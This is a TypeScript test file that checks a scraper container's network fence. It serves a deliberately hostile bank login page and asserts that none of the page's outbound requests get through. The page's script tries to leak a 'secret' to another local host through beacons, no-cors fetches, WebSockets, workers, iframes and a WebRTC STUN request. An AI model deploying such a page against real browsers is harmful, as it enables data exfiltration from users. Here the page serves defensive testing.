import { randomBytes } from "node:crypto";
import { createSocket, type Socket } from "node:dgram";
import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scraperAuthorization } from "../../../contracts/scraper-protocol";
import { type ScraperServer, startScraper } from "../../../scraper-container/server";

const SECRET = randomBytes(32).toString("base64url");

async function listen(handler: Parameters<typeof createServer>[1]): Promise<{ server: Server; port: number }> {
  const server = createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as { port: number }).port };
}

/**
 * An institution page that tries every way a page can send a request
 * elsewhere, then tells its own site it ran. It never shows a login form,
 * so the login ends in TIMEOUT after the attempts.
 */
function hostilePage(otherPort: number, udpPort: number): string {
  const other = `http://127.0.0.1:${otherPort}`;
  // localhost is another site than 127.0.0.1: that iframe runs in its own renderer process.
  const otherSite = `http://localhost:${otherPort}`;
  return `<!doctype html><meta charset="utf-8">
<script src="${other}/script.js"></script>
<img src="${other}/image.png">
<iframe src="${otherSite}/frame"></iframe>
<script>
  window.open("${other}/popup");
  navigator.sendBeacon("${other}/beacon", "secret");
  try { new WebSocket("ws://127.0.0.1:${otherPort}/socket"); } catch {}
  new Worker(URL.createObjectURL(new Blob(['fetch("${other}/worker").catch(() => {})'], { type: "text/javascript" })));
  // WebRTC gathers candidates over UDP, which no HTTP proxy carries: a STUN request would leave beside the fence.
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] });
    peer.createDataChannel("leak");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  } catch {}
  fetch("${other}/fetch", { method: "POST", body: "secret", mode: "no-cors" }).catch(() => {}).finally(() => setTimeout(() => fetch("/bank/ran"), 1500));
</script>`;
}

let institution: { server: Server; port: number };
let other: { server: Server; port: number };
const institutionHits: string[] = [];
const otherHits: string[] = [];
let udp: Socket;
const udpPackets: Buffer[] = [];
let scraper: ScraperServer;

beforeAll(async () => {
  udp = createSocket("udp4");
  udp.on("message", (packet) => udpPackets.push(packet));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  other = await listen((req, res) => {
    otherHits.push(req.url ?? "");
    res.end();
  });
  institution = await listen((req, res) => {
    institutionHits.push(req.url ?? "");
    res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
    res.end(req.url === "/bank/login" ? hostilePage(other.port, udp.address().port) : "");
  });
  scraper = await startScraper({ port: 0, sharedSecret: SECRET, sandboxBaseUrl: `http://127.0.0.1:${institution.port}`, pageTimeoutMs: 10_000 });
});
afterAll(async () => {
  await scraper?.close();
  udp?.close();
  for (const s of [institution, other]) s?.server.closeAllConnections();
  await Promise.all([institution, other].map((s) => s && new Promise((resolve) => s.server.close(resolve))));
});

async function call(method: string, path: string, body?: unknown) {
  const response = await fetch(`${scraper.url}${path}`, {
    method,
    headers: { Authorization: scraperAuthorization(SECRET), "Content-Type": "application/json" },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { status: response.status, body: await response.json() };
}

describe("scraper site fence", () => {
  it("lets a session's browser reach its institution's origin only: scripts, images, frames, popups, beacons, sockets, workers, fetches and WebRTC elsewhere never arrive", async () => {
    const before = (await call("GET", "/stats")).body.refusedRequests;
    const login = await call("POST", "/sessions", { providerCode: "sandbox.bank", credential: { authMethod: "PROVIDER_LOGIN", loginId: "user_good", password: "pass_good" } });
    expect(login.status).toBe(422);
    expect(login.body.failure.code).toBe("TIMEOUT");
    // The page loaded from its own site and its scripts ran to the end...
    expect(institutionHits).toEqual(expect.arrayContaining(["/bank/login", "/bank/ran"]));
    // ...and every request elsewhere was refused by the fence, not lost on the way.
    expect(otherHits).toEqual([]);
    expect(udpPackets).toEqual([]);
    const after = await call("GET", "/stats");
    expect(after.body.refusedRequests).toBeGreaterThan(before);
    expect(after.body.browserContexts).toBe(0);
  });
});
